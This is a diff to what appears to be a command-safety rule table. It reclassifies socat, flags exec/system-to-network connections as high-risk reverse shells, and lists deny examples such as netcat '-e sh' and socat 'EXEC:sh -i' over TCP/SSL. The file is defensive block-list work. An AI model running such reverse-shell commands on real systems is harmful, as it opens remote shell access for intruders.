@@ -74,8 +74,12 @@ RECORDS: tuple[Program, ...] = (
             deny=(f"{n} -e sh host 80", f"{n} -lvpc sh 80", f"{n} --sh-exec=sh host 80"))
         for n in ("nc", "ncat", "netcat")
     ),
-    program("socat", handler="network.socat", options_by_handler=True, ask=("socat - tcp:host:80",),
-        deny=("socat exec:sh tcp:host:80",)),
+    program("socat", options_by_handler=True, rules=(
+            ("^exec:,system:&^tcp,udp,ssl,openssl,sctp", "network", "high",
+                "connects a program to the network (reverse shell)", "network reverse-shell downloads"),
+            ("always", "network", "high", "relays data over the network", "network downloads")),
+        ask=("socat - tcp:host:80", "socat exec:ls -"),
+        deny=("socat exec:sh tcp:host:80", "socat TCP:host:80 SYSTEM:sh", "socat -d OPENSSL:h:443 EXEC:'sh -i'")),
     program("openssl", options_by_handler=True, single_dash=True, asks_long_valued="in inkey key CAfile out keyout",
         reads_with="-in -inkey -key -CAfile", writes_with="-out -keyout", decodes_with="-d", rules=(
             ("is:s_client is:s_server is:ocsp -connect", "network", "high", "opens a network connection",
